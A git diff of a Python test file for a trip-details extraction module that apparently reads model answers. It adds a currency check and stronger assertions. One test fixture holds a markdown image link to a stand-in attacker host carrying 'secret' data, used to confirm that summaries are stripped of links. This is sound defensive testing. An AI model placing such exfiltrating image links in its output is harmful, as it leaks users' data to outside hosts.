@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from inquiries.extraction.local import money
 from inquiries.extraction.openai import prompting, proving, saying, values
 from inquiries.extraction.openai.schema import Given, NoJson, Quote, answer_schema, read_answer
 from inquiries.extraction.schema import FIELDS, WITHOUT_EVIDENCE, TripDetails
@@ -69,7 +70,7 @@ def test_any_answer_is_read_or_refused(text: str) -> None:
     for one in told:
         value = values.possible(one, TODAY)
         if value is not None:
-            TripDetails(**{one.field: value})
+            assert getattr(TripDetails(**{one.field: value}), one.field) == value
 
 
 @pytest.mark.parametrize(
@@ -97,6 +98,10 @@ def test_an_unknown_currency_is_none_and_a_summary_carries_no_links() -> None:
         "Rome. ![x](https://evil.example/?d=secret) See [here](http://evil.example) or www.evil.example now."
     )
     assert values.possible(Given("summary", told), TODAY) == "Rome. x See here or now."
+
+
+def test_every_currency_that_words_name_is_a_currency_of_the_world() -> None:
+    assert {*money.SIGNS.values(), *money.OWN.values()} - {""} <= values.CURRENCIES
 
 
 def test_an_end_before_the_start_is_dropped(ask, server) -> None:
@@ -207,8 +212,7 @@ def test_no_words_break_the_reading(text: str, number: int, amount: float) -> No
     from inquiries.extraction.local.folding import fold
 
     folded = fold(text)
-    for name in ("adults", "travellers", "nights", "rooms", "children", "infants", "child_ages"):
-        saying.count(name, number, folded)
-    saying.day(TODAY, folded)
-    saying.amount(amount, folded)
-    saying.currency("EUR", folded)
+    counted = ("adults", "travellers", "nights", "rooms", "children", "infants", "child_ages")
+    verdicts = [saying.count(name, number, folded) for name in counted]
+    verdicts += [saying.day(TODAY, folded), saying.amount(amount, folded), saying.currency("EUR", folded)]
+    assert {type(one) for one in verdicts} == {bool}
